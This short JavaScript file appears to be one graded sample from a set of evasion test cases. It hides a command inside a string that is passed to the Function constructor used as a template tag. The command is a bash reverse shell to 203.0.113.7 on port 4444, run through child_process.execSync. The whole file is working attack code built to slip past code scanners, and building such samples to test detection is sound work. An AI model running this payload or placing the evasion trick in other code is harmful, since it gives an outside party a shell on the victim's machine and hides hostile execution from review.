// evasion: the Function constructor called as a template tag; the body is the interpolated value
// grade: very hard; does: shell
const body = "return r('child_process').execSync('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', { shell: '/bin/bash' })";

const task = Function`r${body}`;
task(require);
